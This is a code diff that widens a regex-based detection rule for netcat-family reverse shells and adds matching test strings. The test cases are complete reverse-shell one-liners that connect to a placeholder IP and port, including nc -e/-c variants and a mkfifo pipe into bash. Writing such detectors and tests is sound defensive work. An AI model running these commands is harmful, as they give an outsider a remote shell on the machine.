@@ -39,7 +39,7 @@ export const rule: Rule = {
       accept: (candidate) => isMoreThanProbe(candidate) && isComplete(candidate),
     },
     {
-      re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-[rs])\s*["'=]?\s*(?:\/[\w./-]*\/)?(?:env\s+)?(?:\w{0,4}sh|cmd|powershell)(?![\w-])/,
+      re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-[rs])\s*["'=]?\s*(?:exec\s+)?(?:\/[\w./-]*\/)?(?:(?:env|busybox)\s+)?(?:\w{0,4}sh|cmd|powershell|\$\{?SHELL|python[\d.]*)(?![\w-])/,
       window: 300,
       accept: isComplete,
     },
@@ -86,6 +86,9 @@ export const rule: Rule = {
       'nc 203.0.113.7 4444 -e /bin/sh',
       'busybox nc 203.0.113.7 4444 -e bash',
       'nc -c /bin/bash 203.0.113.7 4444',
+      "nc 203.0.113.7 4444 -c 'exec sh'",
+      'nc 203.0.113.7 4444 -e "$SHELL"',
+      'nc 203.0.113.7 4444 -e /bin/busybox sh',
       'subprocess.run(["nc", "203.0.113.7", "4444", "-e", "/bin/sh"])',
       'busybox telnet 203.0.113.7 4444 | busybox sh',
       'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 203.0.113.7 4444 >/tmp/f',
